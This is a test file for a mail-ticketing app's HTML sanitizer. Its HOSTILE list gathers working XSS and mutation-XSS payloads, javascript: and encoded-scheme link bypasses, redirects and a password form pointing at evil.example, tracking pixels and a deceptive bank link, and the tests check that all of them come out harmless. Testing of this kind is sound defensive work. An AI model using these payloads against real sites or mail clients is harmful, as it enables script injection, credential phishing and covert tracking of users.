import fc from 'fast-check';
import { describe, expect, test } from 'vitest';
import {
  composedHtml,
  isMisleadingLink,
  safeHtml,
  safeLink,
  textAsHtml,
} from '../../../../renderer/features/ticket/safe-html.ts';
import { sanitizeMailHtml } from '../../../../server/channels/mail/html/sanitize-mail-html.ts';

/** Mail as attackers write it. Nothing of it may act, hide, load or imitate. */
const HOSTILE: readonly string[] = [
  '<script>alert(1)</script>',
  '<img src=x onerror=alert(1)>',
  '<img src="javascript:alert(1)">',
  '<svg onload=alert(1)><circle/></svg>',
  '<svg><script>alert(1)</script></svg>',
  '<svg><a xlink:href="javascript:alert(1)"><text>x</text></a></svg>',
  '<math><mtext><table><mglyph><style><!--</style><img title="--&gt;&lt;img src=1 onerror=alert(1)&gt;">',
  '<form><math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>',
  '<iframe src="https://evil.example"></iframe>',
  '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
  '<object data="data:text/html,<script>alert(1)</script>"></object>',
  '<embed src="https://evil.example/x.swf">',
  '<a href="javascript:alert(1)">x</a>',
  '<a href=" javascript:alert(1)">x</a>',
  '<a href="java&#10;script:alert(1)">x</a>',
  '<a href="&#106;avascript:alert(1)">x</a>',
  '<a href="data:text/html,<script>alert(1)</script>">x</a>',
  '<a href="vbscript:msgbox(1)">x</a>',
  '<a href="file:///etc/passwd">x</a>',
  '<base href="https://evil.example/"><a href="x">x</a>',
  '<meta http-equiv="refresh" content="0;url=https://evil.example">',
  '<link rel="stylesheet" href="https://evil.example/x.css">',
  '<style>@import "https://evil.example/x.css"; body{display:none}</style>',
  '<div style="position:fixed;inset:0;background:url(https://evil.example/x.png)">x</div>',
  '<div style="width:expression(alert(1))">x</div>',
  '<div style="color:white;background:white;font-size:0">hidden</div>',
  '<p style="behavior:url(#default#time2)">x</p>',
  '<form action="https://evil.example"><input name="password"><button>Sign in</button></form>',
  '<input autofocus onfocus=alert(1)>',
  '<select><option>x</select><textarea>x</textarea>',
  '<video src="https://evil.example/x.mp4" autoplay></video><audio src=x></audio>',
  '<img src="https://tracker.example/open.gif" width="1" height="1">',
  '<img srcset="https://tracker.example/1.png 1x, https://tracker.example/2.png 2x">',
  '<picture><source srcset="https://tracker.example/x.png"><img src="cid:a"></picture>',
  '<table background="https://tracker.example/x.png"><tr><td>x</td></tr></table>',
  '<body onload=alert(1) background="https://tracker.example/x.png">x</body>',
  '<img src="data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+">',
  '<details open ontoggle=alert(1)>x</details>',
  '<marquee onstart=alert(1)>x</marquee>',
  '<template><script>alert(1)</script></template>',
  '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
  '<p id="root" class="real-address" name="body">clobber</p>',
  '<a href="https://good.example" target="_self" ping="https://evil.example" download>x</a>',
  '<x-custom onclick=alert(1)>x</x-custom>',
  '<p data-remote-src="https://tracker.example/x.png">x</p>',
  '<img data-remote-src="javascript:alert(1)" alt="x">',
  '<img src="cid:a" data-remote-src="https://tracker.example/x.png">',
  '<!--<img src="--><img src=x onerror=alert(1)//">',
  '<![CDATA[<script>alert(1)</script>]]>',
  '\u0000<scr\u0000ipt>alert(1)</scr\u0000ipt>',
  '<<script>alert(1)//<</script>',
  '<a href="https://evil.example">https://bank.example/login</a>',
  '<blockquote>'.repeat(400),
];

const FORBIDDEN_ELEMENTS =
  'script, style, link, meta, base, iframe, object, embed, form, input, button, select, textarea, video, audio, source, svg, math, template, noscript, picture';
const ALLOWED_ATTRIBUTES = new Set([
  'href',
  'title',
  'rel',
  'src',
  'alt',
  'colspan',
  'rowspan',
  'align',
  'valign',
  'dir',
  'lang',
  'style',
  'start',
  'class',
  'data-cid',
]);
const OWN_CLASSES = new Set(['real-address', 'blocked-image']);

function parse(html: string): HTMLElement {
  const holder = document.createElement('div');
  holder.innerHTML = html;
  return holder;
}

function expectHarmless(html: string): void {
  const holder = parse(html);
  expect(holder.querySelectorAll(FORBIDDEN_ELEMENTS)).toHaveLength(0);
  for (const element of holder.querySelectorAll<HTMLElement>('*')) {
    for (const { name, value } of element.attributes) {
      expect(ALLOWED_ATTRIBUTES).toContain(name);
      if (name === 'href') expect(value).toMatch(/^(https?|mailto|tel):/);
      if (name === 'src') expect(value).toMatch(/^data:image\/(png|gif|jpe?g|webp|bmp);base64,/i);
      if (name === 'class') expect(OWN_CLASSES).toContain(value);
      if (name === 'style') {
        expect(value).not.toMatch(/url|expression|position|display|color|size|opacity|behavior|import/i);
      }
    }
  }
}

describe('hostile mail', () => {
  test.each(HOSTILE.map((dirty) => [dirty.slice(0, 60), dirty]))('%s is harmless', (_title, dirty) => {
    expectHarmless(safeHtml(dirty, 'quote').html);
    expectHarmless(safeHtml(safeHtml(dirty, 'quote').html, 'quote').html);
  });

  test('any pieces of them together are harmless', () => {
    const piece = fc.oneof(
      fc.constantFrom(...HOSTILE.filter((each) => each.length < 300)),
      fc.string({ maxLength: 12 }),
      fc.constantFrom('<', '>', '"', "'", '<!--', '-->', '</p>', '<p ', 'style=', '&#', ';'),
    );
    fc.assert(
      fc.property(fc.array(piece, { maxLength: 8 }), (pieces) => {
        expectHarmless(safeHtml(pieces.join(''), 'quote').html);
      }),
      { numRuns: 150 },
    );
  });
});

describe('safeHtml', () => {
  test('keeps what carries meaning', () => {
    const { html } = safeHtml(
      '<p>a <b>b</b> <i>c</i></p><ul><li>d</li></ul><table><tr><td colspan="2">e</td></tr></table>',
      '',
    );
    expect(html).toBe(
      '<p>a <b>b</b> <i>c</i></p><ul><li>d</li></ul><table><tbody><tr><td colspan="2">e</td></tr></tbody></table>',
    );
  });

  test('keeps weight and alignment of inline styles, and nothing that hides', () => {
    const { html } = safeHtml(
      '<p style="color: red; font-weight: 700; text-align: right; font-size: 1px">x</p>',
      '',
    );
    const style = parse(html).querySelector('p')?.style;
    expect(style?.fontWeight).toBe('700');
    expect(style?.textAlign).toBe('right');
    expect(style?.color).toBe('');
    expect(style?.fontSize).toBe('');
  });

  test('lists network pictures instead of loading them and shows their words', () => {
    const { html, blockedImages } = safeHtml(
      '<img src="https://tracker.example/p.gif"><img src="https://shop.example/logo.png" alt="Logo">',
      '',
    );
    expect(blockedImages).toEqual(['https://tracker.example/p.gif', 'https://shop.example/logo.png']);
    expect(parse(html).querySelectorAll('img')).toHaveLength(0);
    expect(parse(html).textContent).toBe('Logo');
  });

  test('tells of the network pictures of a real mail, as the server hands it on', () => {
    const mail =
      '<p>See <img src="https://shop.example/logo.png" alt="Logo" width="200"> <img src="//cdn.example/a.png"></p>' +
      '<img src="https://tracker.example/open.gif" width="1" height="1"><img src="cid:part1@mail">';
    const { html, blockedImages, contentIds } = safeHtml(sanitizeMailHtml(mail), '');
    expect(blockedImages).toEqual(['https://shop.example/logo.png', 'https://cdn.example/a.png']);
    expect(contentIds).toEqual(['part1@mail']);
    expect(parse(html).textContent).toContain('Logo');
    expect(html).not.toContain('data-remote-src');
  });

  test('marks the places of pictures that come with the message', () => {
    const { html, contentIds } = safeHtml('<img src="cid:part1@mail" alt="photo">', '');
    expect(contentIds).toEqual(['part1@mail']);
    const image = parse(html).querySelector('img');
    expect(image?.getAttribute('data-cid')).toBe('part1@mail');
    expect(image?.hasAttribute('src')).toBe(false);
  });

  test('says where a link really leads when its words name another place', () => {
    const { html } = safeHtml('<a href="https://evil.example/login">https://bank.example/login</a>', '');
    expect(parse(html).querySelector('.real-address')?.textContent).toContain('evil.example');
    const honest = safeHtml('<a href="https://shop.example.com/a?b=c">shop.example.com</a>', '');
    expect(parse(honest.html).querySelector('.real-address')).toBeNull();
  });

  test('folds a long quotation once, however deep it is', () => {
    const words = 'quoted words '.repeat(40);
    const { html } = safeHtml(
      `<p>new</p><blockquote>${words}<blockquote>${words}</blockquote></blockquote>`,
      'Quoted',
    );
    const holder = parse(html);
    expect(holder.querySelectorAll('details')).toHaveLength(1);
    expect(holder.querySelector('summary')?.title).toBe('Quoted');
  });
});

describe('links', () => {
  test.each([
    ['https://example.com/a', 'https://example.com/a'],
    ['mailto:a@example.com', 'mailto:a@example.com'],
    ['tel:+8613800000000', 'tel:+8613800000000'],
    ['javascript:alert(1)', null],
    ['/relative', null],
    ['', null],
  ])('%s leads to %s', (address, expected) => {
    expect(safeLink(address)).toBe(expected);
  });

  test.each([
    ['https://bank.example', 'https://evil.example', true],
    ['www.bank.example', 'https://bank.example/x', false],
    ['click here', 'https://evil.example', false],
    ['support@bank.example', 'mailto:support@bank.example', false],
    ['bank.example', 'https://login.bank.example', false],
    ['login.bank.example', 'https://bank.example.evil.example', true],
  ])('%s on %s is misleading: %s', (text, address, expected) => {
    expect(isMisleadingLink(text, address)).toBe(expected);
  });
});

test('plain text is escaped, keeps its lines and links its addresses', () => {
  expect(textAsHtml('a < b & "c"\nhttps://example.com/x。')).toBe(
    'a &lt; b &amp; &quot;c&quot;<br><a href="https://example.com/x">https://example.com/x</a>。',
  );
});

test('what leaves the composer carries no styles, scripts or foreign links', () => {
  expect(
    composedHtml('<p style="color:red" onclick="x()">a <a href="javascript:x">b</a><script>c</script></p>'),
  ).toBe('<p>a <a>b</a></p>');
});
